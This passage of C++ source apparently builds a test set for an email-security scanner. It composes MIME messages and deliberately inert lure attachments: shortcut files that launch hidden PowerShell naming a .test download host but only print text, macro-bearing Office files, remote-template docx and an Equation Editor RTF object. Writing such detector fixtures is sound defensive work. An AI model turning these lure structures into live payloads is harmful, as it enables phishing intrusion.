#include "support/eval_set.h"

#include <iconv.h>

#include <algorithm>
#include <array>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <map>
#include <string_view>

#include "core/hash.h"
#include "support/cfb_builder.h"
#include "support/docx_builder.h"
#include "support/lnk_builder.h"
#include "support/ovba_builder.h"
#include "support/pe_builder.h"
#include "support/rtf_builder.h"
#include "support/zip_builder.h"

namespace kagami::test {
namespace {

// ---- encodings -------------------------------------------------------------------------------

[[noreturn]] void fail(const std::string& why) {
    std::fprintf(stderr, "eval_set: %s\n", why.c_str());
    std::abort();
}

/// UTF-8 to `charset` with glibc's iconv; the set is fixed text, so a character the
/// charset lacks is a mistake in this file and stops the program.
std::string convert(std::string_view utf8, const std::string& charset) {
    std::string lower;
    for (char c : charset) lower += static_cast<char>(c >= 'A' && c <= 'Z' ? c + 32 : c);
    if (lower == "utf-8" || lower == "us-ascii") return std::string(utf8);
    iconv_t cd = iconv_open(charset.c_str(), "UTF-8");
    if (cd == reinterpret_cast<iconv_t>(-1)) fail("no iconv converter for " + charset);
    std::string in(utf8), out(in.size() * 4 + 16, '\0');
    char* src = in.data();
    std::size_t src_left = in.size();
    char* dst = out.data();
    std::size_t dst_left = out.size();
    std::size_t r = iconv(cd, &src, &src_left, &dst, &dst_left);
    if (r != static_cast<std::size_t>(-1)) r = iconv(cd, nullptr, nullptr, &dst, &dst_left);
    iconv_close(cd);
    if (r == static_cast<std::size_t>(-1) || src_left != 0)
        fail(charset + " cannot encode: " + std::string(src, std::min<std::size_t>(src_left, 30)));
    out.resize(out.size() - dst_left);
    return out;
}

std::string base64(std::string_view in, std::size_t line = 76) {
    static constexpr char kAlphabet[] =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string out;
    std::size_t col = 0;
    for (std::size_t i = 0; i < in.size(); i += 3) {
        unsigned v = static_cast<unsigned char>(in[i]) << 16;
        if (i + 1 < in.size()) v |= static_cast<unsigned char>(in[i + 1]) << 8;
        if (i + 2 < in.size()) v |= static_cast<unsigned char>(in[i + 2]);
        out += kAlphabet[(v >> 18) & 63];
        out += kAlphabet[(v >> 12) & 63];
        out += i + 1 < in.size() ? kAlphabet[(v >> 6) & 63] : '=';
        out += i + 2 < in.size() ? kAlphabet[v & 63] : '=';
        if (line && (col += 4) >= line && i + 3 < in.size()) {
            out += "\r\n";
            col = 0;
        }
    }
    return out;
}

/// Quoted-printable (RFC 2045) of CRLF text, soft breaks before 76 columns.
std::string quoted_printable(std::string_view in) {
    static constexpr char kHex[] = "0123456789ABCDEF";
    std::string out;
    std::size_t col = 0;
    for (std::size_t i = 0; i < in.size(); ++i) {
        auto c = static_cast<unsigned char>(in[i]);
        if (c == '\r' && i + 1 < in.size() && in[i + 1] == '\n') {
            out += "\r\n";
            col = 0;
            ++i;
            continue;
        }
        bool line_end = i + 1 == in.size() || in[i + 1] == '\r';
        std::string piece;
        if ((c >= 33 && c <= 126 && c != '=') || ((c == ' ' || c == '\t') && !line_end))
            piece = std::string(1, static_cast<char>(c));
        else
            piece = std::string{'=', kHex[c >> 4], kHex[c & 15]};
        if (col + piece.size() > 75) {
            out += "=\r\n";
            col = 0;
        }
        out += piece;
        col += piece.size();
    }
    return out;
}

/// LF or CRLF text to CRLF.
std::string crlf(std::string_view text) {
    std::string out;
    for (std::size_t i = 0; i < text.size(); ++i) {
        if (text[i] == '\n' && (i == 0 || text[i - 1] != '\r')) out += '\r';
        out += text[i];
    }
    return out;
}

bool ascii(std::string_view s) {
    for (char c : s)
        if (static_cast<unsigned char>(c) >= 0x80) return false;
    return true;
}

/// RFC 2047 encoded words for a header value, split at character boundaries so that each
/// word stays short; ASCII stays as it is.
std::string encode_words(std::string_view utf8, const std::string& charset = "UTF-8") {
    if (ascii(utf8)) return std::string(utf8);
    std::string out;
    std::size_t i = 0;
    while (i < utf8.size()) {
        std::size_t n = 0, chars = 0;
        while (i + n < utf8.size() && chars < 12) {
            auto c = static_cast<unsigned char>(utf8[i + n]);
            n += c < 0x80 ? 1 : c < 0xE0 ? 2 : c < 0xF0 ? 3 : 4;
            ++chars;
        }
        if (!out.empty()) out += "\r\n ";
        out += "=?" + charset + "?B?" + base64(convert(utf8.substr(i, n), charset), 0) + "?=";
        i += n;
    }
    return out;
}

/// "Display Name" <addr> with the name encoded when it is not ASCII.
std::string mailbox(std::string_view name, std::string_view addr,
                    const std::string& charset = "UTF-8") {
    if (name.empty()) return "<" + std::string(addr) + ">";
    if (ascii(name)) return "\"" + std::string(name) + "\" <" + std::string(addr) + ">";
    return encode_words(name, charset) + " <" + std::string(addr) + ">";
}

std::string percent_utf8(std::string_view s) {
    static constexpr char kHex[] = "0123456789ABCDEF";
    std::string out;
    for (unsigned char c : s) {
        if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') ||
            c == '.' || c == '-' || c == '_')
            out += static_cast<char>(c);
        else
            out += std::string{'%', kHex[c >> 4], kHex[c & 15]};
    }
    return out;
}

// ---- messages --------------------------------------------------------------------------------

struct Attachment {
    std::string name;  ///< UTF-8
    std::string type;  ///< Content-Type without parameters
    std::string data;
    /// How a non-ASCII name is written: "2231" (filename*=UTF-8''..., Thunderbird, Gmail)
    /// or "2047-utf8" / "2047-jis" (name="=?..?=", Outlook and Japanese mailers).
    std::string name_style = "2231";
    bool inline_text = false;  ///< text/calendar and the like: 7bit, not base64
};

struct Mail {
    std::vector<std::string> trace;  ///< whole header lines before From (Received, ...)
    std::string from_name, from_addr;
    std::string to, cc, reply_to;  ///< header values as written
    std::string subject;           ///< UTF-8
    std::string date, message_id;
    std::vector<std::string> extra;  ///< whole header lines after Message-ID
    std::string header_charset = "UTF-8";
    std::string text;  ///< UTF-8, LF or CRLF
    std::string html;  ///< UTF-8; with text: multipart/alternative
    std::string charset = "UTF-8";
    std::string cte = "base64";  ///< "7bit", "8bit", "base64", "quoted-printable"
    std::vector<Attachment> attachments;
};

std::string encode_body(const std::string& utf8, const std::string& charset,
                        const std::string& cte) {
    std::string bytes = convert(crlf(utf8), charset);
    if (cte == "base64") return base64(bytes);
    if (cte == "quoted-printable") return quoted_printable(bytes);
    return bytes;
}

std::string text_part(const std::string& subtype, const std::string& utf8, const Mail& m) {
    return "Content-Type: text/" + subtype + "; charset=\"" + m.charset +
           "\"\r\nContent-Transfer-Encoding: " + m.cte + "\r\n\r\n" +
           encode_body(utf8, m.charset, m.cte);
}

std::string attachment_part(const Attachment& a) {
    std::string type_name, disp_name;
    if (ascii(a.name)) {
        type_name = "; name=\"" + a.name + "\"";
        disp_name = "; filename=\"" + a.name + "\"";
    } else if (a.name_style == "2231") {
        type_name = "; name*=UTF-8''" + percent_utf8(a.name);
        disp_name = "; filename*=UTF-8''" + percent_utf8(a.name);
    } else {
        std::string words =
            encode_words(a.name, a.name_style == "2047-jis" ? "ISO-2022-JP" : "UTF-8");
        type_name = ";\r\n name=\"" + words + "\"";
        disp_name = ";\r\n filename=\"" + words + "\"";
    }
    if (a.inline_text)
        return "Content-Type: " + a.type + "; charset=\"UTF-8\"" + type_name +
               "\r\nContent-Disposition: attachment" + disp_name +
               "\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + crlf(a.data);
    return "Content-Type: " + a.type + type_name + "\r\nContent-Disposition: attachment" +
           disp_name + "\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64(a.data);
}

std::string compose(const Mail& m, int serial) {
    std::string h;
    for (const auto& t : m.trace) h += t + "\r\n";
    h += "From: " + mailbox(m.from_name, m.from_addr, m.header_charset) + "\r\n";
    if (!m.reply_to.empty()) h += "Reply-To: " + m.reply_to + "\r\n";
    h += "To: " + m.to + "\r\n";
    if (!m.cc.empty()) h += "Cc: " + m.cc + "\r\n";
    h += "Subject: " + encode_words(m.subject, m.header_charset) + "\r\n";
    h += "Date: " + m.date + "\r\n";
    h += "Message-ID: " + m.message_id + "\r\n";
    for (const auto& e : m.extra) h += e + "\r\n";
    h += "MIME-Version: 1.0\r\n";

    std::string tag = std::to_string(1000 + serial);
    std::string body;
    if (!m.html.empty() && !m.text.empty()) {
        std::string b = "----=_Alt_" + tag + "_7f3c";
        body = "Content-Type: multipart/alternative; boundary=\"" + b + "\"\r\n\r\n--" + b +
               "\r\n" + text_part("plain", m.text, m) + "\r\n--" + b + "\r\n" +
               text_part("html", m.html, m) + "\r\n--" + b + "--\r\n";
    } else if (!m.html.empty()) {
        body = text_part("html", m.html, m);
    } else {
        body = text_part("plain", m.text, m);
    }
    if (m.attachments.empty()) return h + body;
    std::string b = "----=_Mixed_" + tag + "_a91e";
    std::string out = h + "Content-Type: multipart/mixed; boundary=\"" + b + "\"\r\n\r\n" +
                      "This is a multi-part message in MIME format.\r\n\r\n--" + b + "\r\n" + body;
    for (const auto& a : m.attachments) out += "\r\n--" + b + "\r\n" + attachment_part(a);
    return out + "\r\n--" + b + "--\r\n";
}

/// A Received field: "from HELO (rdns [ip]) by BY with WITH id ID for <FOR>; DATE".
std::string received(const std::string& helo, const std::string& ip, const std::string& by,
                     const std::string& id, const std::string& for_addr, const std::string& date,
                     const std::string& with = "ESMTPS") {
    return "Received: from " + helo + " (" + helo + " [" + ip + "])\r\n\tby " + by + " with " +
           with + " id " + id + "\r\n\tfor <" + for_addr + ">; " + date;
}

/// Authentication-Results as a receiving gateway writes it.
std::string auth_results(const std::string& receiver, const std::string& spf,
                         const std::string& mailfrom, const std::string& dkim,
                         const std::string& dkim_domain, const std::string& dmarc,
                         const std::string& from_domain) {
    std::string v =
        "Authentication-Results: " + receiver + ";\r\n\tspf=" + spf + " smtp.mailfrom=" + mailfrom;
    if (!dkim.empty()) v += ";\r\n\tdkim=" + dkim + " header.d=" + dkim_domain;
    return v + ";\r\n\tdmarc=" + dmarc + " header.from=" + from_domain;
}

// ---- inert attachments -----------------------------------------------------------------------

void put16(std::string& out, std::uint32_t v) {
    out += static_cast<char>(v & 0xFF);
    out += static_cast<char>((v >> 8) & 0xFF);
}
void put32(std::string& out, std::uint32_t v) {
    put16(out, v & 0xFFFF);
    put16(out, v >> 16);
}
void put16be(std::string& out, std::uint32_t v) {
    out += static_cast<char>((v >> 8) & 0xFF);
    out += static_cast<char>(v & 0xFF);
}
void put32be(std::string& out, std::uint32_t v) {
    put16be(out, v >> 16);
    put16be(out, v & 0xFFFF);
}

/// Traditional PKWARE encryption (APPNOTE 6.1): three keys stirred by CRC-32 steps.
class ZipCrypto {
public:
    explicit ZipCrypto(const std::string& password) {
        for (unsigned char c : password) update(c);
    }
    unsigned char encrypt(unsigned char plain) {
        std::uint32_t t = (keys_[2] | 2) & 0xFFFF;
        auto k = static_cast<unsigned char>(((t * (t ^ 1)) >> 8) & 0xFF);
        update(plain);
        return plain ^ k;
    }

private:
    static std::uint32_t crc_byte(std::uint32_t crc, unsigned char b) {
        static const auto table = [] {
            std::array<std::uint32_t, 256> t{};
            for (std::uint32_t i = 0; i < 256; ++i) {
                std::uint32_t c = i;
                for (int k = 0; k < 8; ++k) c = (c & 1) ? 0xEDB88320u ^ (c >> 1) : c >> 1;
                t[i] = c;
            }
            return t;
        }();
        return table[(crc ^ b) & 0xFF] ^ (crc >> 8);
    }
    void update(unsigned char c) {
        keys_[0] = crc_byte(keys_[0], c);
        keys_[1] = (keys_[1] + (keys_[0] & 0xFF)) * 134775813u + 1;
        keys_[2] = crc_byte(keys_[2], static_cast<unsigned char>(keys_[1] >> 24));
    }
    std::uint32_t keys_[3] = {0x12345678u, 0x23456789u, 0x34567890u};
};

}  // namespace

std::string eval_encrypted_zip(const std::vector<EvalFile>& files, const std::string& password) {
    std::string out, central;
    std::uint32_t seed = 0x5EED1234u;
    for (const auto& f : files) {
        auto offset = static_cast<std::uint32_t>(out.size());
        std::uint32_t crc = zip::crc32(f.data);
        ZipCrypto z(password);
        std::string packed;
        // The 12-byte encryption header: filler (fixed here, so the set is deterministic),
        // then the CRC's high byte that lets a reader check the password.
        for (int i = 0; i < 11; ++i) {
            seed = seed * 1103515245u + 12345u;
            packed += static_cast<char>(z.encrypt(static_cast<unsigned char>(seed >> 16)));
        }
        packed += static_cast<char>(z.encrypt(static_cast<unsigned char>(crc >> 24)));
        for (unsigned char c : f.data) packed += static_cast<char>(z.encrypt(c));
        auto name_len = static_cast<std::uint32_t>(f.name.size());
        auto write_common = [&](std::string& o) {
            put16(o, 20);                             // version needed
            put16(o, 0x0001 | 0x0800);                // encrypted, UTF-8 name
            put16(o, 0);                              // stored
            put16(o, 0x6000);                         // 12:00
            put16(o, (44u << 9) | (11u << 5) | 27u);  // 2024-11-27
            put32(o, crc);
            put32(o, static_cast<std::uint32_t>(packed.size()));
            put32(o, static_cast<std::uint32_t>(f.data.size()));
            put16(o, name_len);
            put16(o, 0);
        };
        put32(out, 0x04034b50);
        write_common(out);
        out += f.name + packed;
        put32(central, 0x02014b50);
        put16(central, 0x031E);  // made by: Unix, 3.0
        write_common(central);
        put16(central, 0);  // comment
        put16(central, 0);  // disk
        put16(central, 0);  // internal attributes
        put32(central, 0x81A40000u);
        put32(central, offset);
        central += f.name;
    }
    auto cd_offset = static_cast<std::uint32_t>(out.size());
    out += central;
    put32(out, 0x06054b50);
    put16(out, 0);
    put16(out, 0);
    put16(out, static_cast<std::uint32_t>(files.size()));
    put16(out, static_cast<std::uint32_t>(files.size()));
    put32(out, static_cast<std::uint32_t>(central.size()));
    put32(out, cd_offset);
    put16(out, 0);
    return out;
}

std::string eval_iso_image(const std::vector<EvalFile>& files, const std::string& volume_id) {
    constexpr std::uint32_t kSector = 2048;
    constexpr std::uint32_t kPvd = 16, kLPath = 18, kMPath = 19, kRoot = 20, kFirstFile = 21;
    auto both16 = [](std::string& o, std::uint32_t v) {
        put16(o, v);
        put16be(o, v);
    };
    auto both32 = [](std::string& o, std::uint32_t v) {
        put32(o, v);
        put32be(o, v);
    };
    auto padded = [](std::string s, std::size_t n) {
        s.resize(n, ' ');
        return s;
    };
    // 2024-11-27 12:00:00 +0900 (offset in 15-minute units)
    const std::string when7 = std::string{124, 11, 27, 12, 0, 0, 36};
    auto record = [&](const std::string& id, std::uint32_t extent, std::uint32_t size, bool dir) {
        std::string r;
        auto len = static_cast<std::uint32_t>(33 + id.size() + (id.size() % 2 == 0 ? 1 : 0));
        r += static_cast<char>(len);
        r += '\0';
        both32(r, extent);
        both32(r, size);
        r += when7;
        r += static_cast<char>(dir ? 2 : 0);
        r += '\0';
        r += '\0';
        both16(r, 1);
        r += static_cast<char>(id.size());
        r += id;
        if (id.size() % 2 == 0) r += '\0';
        return r;
    };
    std::vector<std::uint32_t> extents;
    std::uint32_t next = kFirstFile;
    for (const auto& f : files) {
        extents.push_back(next);
        next += static_cast<std::uint32_t>((f.data.size() + kSector - 1) / kSector);
        if (f.data.empty()) ++next;
    }
    std::uint32_t total = std::max<std::uint32_t>(next, 32);

    std::string root = record(std::string(1, '\0'), kRoot, kSector, true) +
                       record(std::string(1, '\1'), kRoot, kSector, true);
    for (std::size_t i = 0; i < files.size(); ++i)
        root += record(files[i].name + ";1", extents[i],
                       static_cast<std::uint32_t>(files[i].data.size()), false);
    if (root.size() > kSector) fail("iso: too many files for one directory sector");

    std::string pvd;
    pvd += '\1';
    pvd += "CD001";
    pvd += '\1';
    pvd += '\0';
    pvd += padded("", 32);  // system id
    pvd += padded(volume_id, 32);
    pvd += std::string(8, '\0');
    both32(pvd, total);
    pvd += std::string(32, '\0');
    both16(pvd, 1);  // volume set size
    both16(pvd, 1);  // volume sequence number
    both16(pvd, kSector);
    both32(pvd, 10);  // path table size
    put32(pvd, kLPath);
    put32(pvd, 0);
    put32be(pvd, kMPath);
    put32be(pvd, 0);
    pvd += record(std::string(1, '\0'), kRoot, kSector, true);
    pvd += padded("", 128) + padded("", 128) + padded("", 128) + padded("", 128);
    pvd += padded("", 37) + padded("", 37) + padded("", 37);
    const std::string date17 = std::string("2024112712000000") + static_cast<char>(36);
    pvd += date17 + date17 + std::string("0000000000000000") + '\0' + date17;
    pvd += '\1';  // file structure version
    pvd += '\0';
    pvd.resize(kSector, '\0');

    std::string terminator = std::string("\xFF") + "CD001" + '\1';
    terminator.resize(kSector, '\0');
    std::string lpath, mpath;
    lpath += '\1';
    lpath += '\0';
    put32(lpath, kRoot);
    put16(lpath, 1);
    lpath += std::string(2, '\0');
    mpath += '\1';
    mpath += '\0';
    put32be(mpath, kRoot);
    put16be(mpath, 1);
    mpath += std::string(2, '\0');

    std::string image(std::size_t{total} * kSector, '\0');
    auto place = [&](std::uint32_t sector, const std::string& bytes) {
        image.replace(std::size_t{sector} * kSector, bytes.size(), bytes);
    };
    place(kPvd, pvd);
    place(kPvd + 1, terminator);
    place(kLPath, lpath);
    place(kMPath, mpath);
    place(kRoot, root);
    for (std::size_t i = 0; i < files.size(); ++i) place(extents[i], files[i].data);
    return image;
}

namespace {

// ---- attachment builders (inert) -------------------------------------------------------------

std::string xml_escape(std::string_view s) {
    std::string out;
    for (char c : s) {
        if (c == '&')
            out += "&amp;";
        else if (c == '<')
            out += "&lt;";
        else if (c == '>')
            out += "&gt;";
        else if (c == '"')
            out += "&quot;";
        else
            out += c;
    }
    return out;
}

std::string paragraphs(const std::vector<std::string>& lines) {
    std::string out;
    for (const auto& l : lines)
        out += "<w:p><w:r><w:t xml:space=\"preserve\">" + xml_escape(l) + "</w:t></w:r></w:p>";
    return out;
}

/// A shortcut that shows a document icon and names `program` with `arguments` (text only).
std::string shortcut(const std::string& program, const std::string& arguments,
                     const std::string& icon, const std::string& machine) {
    lnk::Options o;
    o.target = program;
    o.arguments = arguments;
    o.icon_location = icon;
    o.icon_index = 0;
    o.show_command = 7;  // minimised, no focus
    o.working_dir = "%TEMP%";
    o.machine_id = machine;
    o.creation_time = o.access_time = o.write_time = lnk::kSampleTime;
    return lnk::build(o);
}

const std::string kPowerShell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const std::string kWordIcon = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
const std::string kPdfIcon = "C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe";
const std::string kEdgeIcon = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe";

std::string ps_args(const std::string& host) {
    // Names the program and a download host under .test; prints text if ever run.
    return "-NoProfile -WindowStyle Hidden -Command \"$u='https://" + host +
           "/api/v2/sync';Write-Output ('kagami evaluation fixture ' + $u)\"";
}

const std::string kDocClsid("\x06\x09\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46", 16);
const std::string kXlsClsid("\x20\x08\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46", 16);

std::string project_text(const std::string& document_module, const std::string& module) {
    return "ID=\"{5B1A3D2E-0C4F-4E8B-9A77-1E2D3C4B5A69}\"\r\nDocument=" + document_module +
           "/&H00000000\r\nModule=" + module +
           "\r\nName=\"VBAProject\"\r\nHelpContextID=\"0\"\r\nVersionCompatible32=\"393222000\"\r\n"
           "CMG=\"B9BB1D5E2162216221622162\"\r\nDPB=\"0103ADB1AEB1AEB1\"\r\nGC="
           "\"2B29C7C8C8C8C8\"\r\n"
           "\r\n[Host Extender Info]\r\n&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;"
           "&H00000000\r\n";
}

/// Adds a VBA project (storage `VBA` and PROJECT next to it) under `parent`.
void add_vba(CfbBuilder& b, int parent, const std::string& document_module,
             const std::string& document_code, const std::string& module,
             const std::string& module_code) {
    OvbaProject p;
    p.code_page = 932;
    OvbaModule doc;
    doc.name = document_module;
    doc.document = true;
    doc.code = "Attribute VB_Name = \"" + document_module + "\"\r\nAttribute VB_Base = \"1Normal." +
               document_module +
               "\"\r\nAttribute VB_GlobalNameSpace = False\r\nAttribute VB_Creatable = False\r\n"
               "Attribute VB_PredeclaredId = True\r\nAttribute VB_Exposed = True\r\n" +
               document_code;
    p.modules.push_back(doc);
    if (!module.empty()) {
        OvbaModule m;
        m.name = module;
        m.code = "Attribute VB_Name = \"" + module + "\"\r\n" + module_code;
        p.modules.push_back(m);
    }
    int vba = b.add_storage(parent, "VBA");
    for (auto& [name, bytes] : ovba_streams(p)) b.add_stream(vba, name, bytes);
    b.add_stream(vba, "_VBA_PROJECT", std::string("\xCC\x61\xFF\xFF\x00\x00\x00", 7));
    b.add_stream(parent, "PROJECT", project_text(document_module, module));
    std::string wm = document_module + '\0';
    for (char c : document_module) wm += std::string{c, '\0'};
    wm += std::string(2, '\0');
    b.add_stream(parent, "PROJECTwm", wm + std::string(2, '\0'));
}

/// A Word 97-2003 document: a FIB that says nFib 0xC1 and the 1Table stream, and macros.
std::string word_doc_with_macro(const std::string& document_code, const std::string& module,
                                const std::string& module_code) {
    CfbBuilder b;
    b.set_root_clsid(kDocClsid);
    std::string fib(4096, '\0');
    auto set16 = [&](std::size_t at, std::uint32_t v) {
        fib[at] = static_cast<char>(v & 0xFF);
        fib[at + 1] = static_cast<char>((v >> 8) & 0xFF);
    };
    set16(0, 0xA5EC);
    set16(2, 0x00C1);
    set16(10, 0x0200);  // fWhichTblStm: 1Table
    set16(32, 14);
    set16(62, 22);
    set16(152, 93);
    b.add_stream(0, "WordDocument", fib);
    b.add_stream(0, "1Table", std::string(1024, '\0'));
    b.add_stream(0, "\x05SummaryInformation", std::string(256, '\0'));
    int macros = b.add_storage(0, "Macros");
    add_vba(b, macros, "ThisDocument", document_code, module, module_code);
    return b.build();
}

/// An Excel 97-2003 workbook: a BOF/EOF Workbook stream and macros in _VBA_PROJECT_CUR.
std::string excel_xls_with_macro(const std::string& workbook_code) {
    CfbBuilder b;
    b.set_root_clsid(kXlsClsid);
    std::string wb;
    put16(wb, 0x0809);
    put16(wb, 16);
    put16(wb, 0x0600);
    put16(wb, 0x0005);
    put16(wb, 0x0DBB);
    put16(wb, 0x07CC);
    put32(wb, 0x000100C1);
    put32(wb, 0x00000206);
    put16(wb, 0x000A);
    put16(wb, 0);
    wb.resize(4096, '\0');
    b.add_stream(0, "Workbook", wb);
    int cur = b.add_storage(0, "_VBA_PROJECT_CUR");
    add_vba(b, cur, "ThisWorkbook", workbook_code, "", "");
    return b.build();
}

std::string sheet_xml(const std::vector<std::vector<std::string>>& rows) {
    std::string x =
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<worksheet "
        "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>";
    for (std::size_t r = 0; r < rows.size(); ++r) {
        x += "<row r=\"" + std::to_string(r + 1) + "\">";
        for (std::size_t c = 0; c < rows[r].size() && c < 26; ++c)
            x += "<c r=\"" + std::string(1, static_cast<char>('A' + c)) + std::to_string(r + 1) +
                 "\" t=\"inlineStr\"><is><t>" + xml_escape(rows[r][c]) + "</t></is></c>";
        x += "</row>";
    }
    return x + "</sheetData></worksheet>";
}

/// An Excel workbook (xlsx; xlsm with a VBA project when `workbook_code` is set).
std::string excel_ooxml(const std::vector<std::vector<std::string>>& rows,
                        const std::string& workbook_code = {}) {
    bool macro = !workbook_code.empty();
    std::string main_type = macro ? "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
                                  : "application/vnd.openxmlformats-officedocument."
                                    "spreadsheetml.sheet.main+xml";
    std::string ct =
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
        "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
        "<Default Extension=\"rels\" "
        "ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
        "<Default Extension=\"xml\" ContentType=\"application/xml\"/>";
    if (macro)
        ct += "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>";
    ct += "<Override PartName=\"/xl/workbook.xml\" ContentType=\"" + main_type +
          "\"/><Override PartName=\"/xl/worksheets/sheet1.xml\" "
          "ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml."
          "worksheet+xml\"/></Types>";
    auto rels = [](const std::vector<std::string>& items) {
        std::string x =
            "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<Relationships "
            "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">";
        for (const auto& i : items) x += i;
        return x + "</Relationships>";
    };
    std::vector<std::string> wb_rels = {
        docx::relationship("rId1", "worksheet", "worksheets/sheet1.xml", false)};
    if (macro)
        wb_rels.push_back(
            "<Relationship Id=\"rId9\" "
            "Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" "
            "Target=\"vbaProject.bin\"/>");
    std::vector<docx::Member> m = {
        {"[Content_Types].xml", ct},
        {"_rels/.rels",
         rels({docx::relationship("rId1", "officeDocument", "xl/workbook.xml", false)})},
        {"xl/workbook.xml",
         "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<workbook "
         "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
         "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
         "<sheets><sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"},
        {"xl/_rels/workbook.xml.rels", rels(wb_rels)},
        {"xl/worksheets/sheet1.xml", sheet_xml(rows)},
    };
    if (macro) {
        CfbBuilder b;
        add_vba(b, 0, "ThisWorkbook", workbook_code, "", "");
        m.push_back({"xl/vbaProject.bin", b.build()});
    }
    return docx::zip(m);
}

std::string word_docx(const std::vector<std::string>& lines, const std::string& template_url = {}) {
    docx::Options o;
    o.body = paragraphs(lines);
    if (!template_url.empty())
        o.settings_rels.push_back(
            docx::relationship("rId1", "attachedTemplate", template_url, true));
    return docx::build(o);
}

/// A docx whose text links to `url` (an ordinary hyperlink, not a template).
std::string word_docx_with_link(const std::vector<std::string>& lines, const std::string& url,
                                const std::string& link_text) {
    docx::Options o;
    o.body = paragraphs(lines) +
             "<w:p><w:hyperlink xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/"
             "relationships\" r:id=\"rId7\"><w:r><w:t>" +
             xml_escape(link_text) + "</w:t></w:r></w:hyperlink></w:p>";
    o.document_rels.push_back(docx::relationship("rId7", "hyperlink", url, true));
    return docx::build(o);
}

/// A PDF literal string "(...)" with ( ) \ escaped.
std::string pdf_string(std::string_view bytes) {
    std::string out = "(";
    for (char c : bytes) {
        if (c == '(' || c == ')' || c == '\\') out += '\\';
        out += c;
    }
    return out + ")";
}

/// A PDF text string of UTF-8 `text` as UTF-16BE with a byte order mark, in hex.
std::string pdf_text(std::string_view utf8) {
    static constexpr char kHex[] = "0123456789ABCDEF";
    std::string out = "<FEFF";
    for (std::size_t i = 0; i < utf8.size();) {
        auto c = static_cast<unsigned char>(utf8[i]);
        std::uint32_t cp = c;
        std::size_t n = 1;
        if (c >= 0xF0) {
            cp = c & 0x07;
            n = 4;
        } else if (c >= 0xE0) {
            cp = c & 0x0F;
            n = 3;
        } else if (c >= 0xC0) {
            cp = c & 0x1F;
            n = 2;
        }
        for (std::size_t k = 1; k < n && i + k < utf8.size(); ++k)
            cp = (cp << 6) | (static_cast<unsigned char>(utf8[i + k]) & 0x3F);
        i += n;
        auto unit = [&](std::uint32_t u) {
            for (int shift = 12; shift >= 0; shift -= 4) out += kHex[(u >> shift) & 15];
        };
        if (cp >= 0x10000) {
            cp -= 0x10000;
            unit(0xD800 + (cp >> 10));
            unit(0xDC00 + (cp & 0x3FF));
        } else {
            unit(cp);
        }
    }
    return out + ">";
}

/// A one-page PDF (Helvetica text, an Info title), with `extra_catalog` entries and extra
/// objects for the malicious variants. Written here rather than with PdfBuilder, whose
/// object file needs zlib, which not every test program links.
std::string pdf_document(const std::string& title, const std::vector<std::string>& lines,
                         const std::string& extra_catalog = {},
                         const std::vector<std::pair<unsigned, std::string>>& extra = {}) {
    std::string content = "BT /F1 11 Tf 72 760 Td 14 TL\n";
    for (const auto& l : lines) content += pdf_string(l) + " '\n";
    content += "ET\n";
    std::vector<std::pair<unsigned, std::string>> objects = {
        {1, "<< /Type /Catalog /Pages 2 0 R" + extra_catalog + " >>"},
        {2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"},
        {3,
         "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 "
         "0 R >> >> /Contents 4 0 R >>"},
        {4, "<< /Length " + std::to_string(content.size()) + " >>\nstream\n" + content +
                "\nendstream"},
        {5, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"},
        {6, "<< /Title " + pdf_text(title) +
                " /Producer (Microsoft Word for Microsoft 365) /CreationDate "
                "(D:20241127120000+09'00') >>"},
    };
    for (const auto& e : extra) objects.push_back(e);
    std::string out = "%PDF-1.7\n%\xE2\xE3\xCF\xD3\n";
    std::vector<std::size_t> offsets(objects.size() + 1, 0);
    for (const auto& [num, body] : objects) {
        offsets[num] = out.size();
        out += std::to_string(num) + " 0 obj\n" + body + "\nendobj\n";
    }
    std::size_t xref = out.size();
    out += "xref\n0 " + std::to_string(offsets.size()) + "\n0000000000 65535 f \n";
    for (std::size_t i = 1; i < offsets.size(); ++i) {
        char line[24];
        std::snprintf(line, sizeof line, "%010zu 00000 n \n", offsets[i]);
        out += line;
    }
    out += "trailer\n<< /Size " + std::to_string(offsets.size()) +
           " /Root 1 0 R /Info 6 0 R >>\nstartxref\n" + std::to_string(xref) + "\n%%EOF\n";
    return out;
}

std::string rtf_with_equation(const std::vector<std::string>& lines) {
    std::string body;
    for (const auto& l : lines) body += l + "\\par\n";
    // The Equation Editor object: a class name and inert native bytes (no shellcode).
    std::string native = std::string("\x1c\x00\x00\x00\x02\x00\x9e\xc4", 8) +
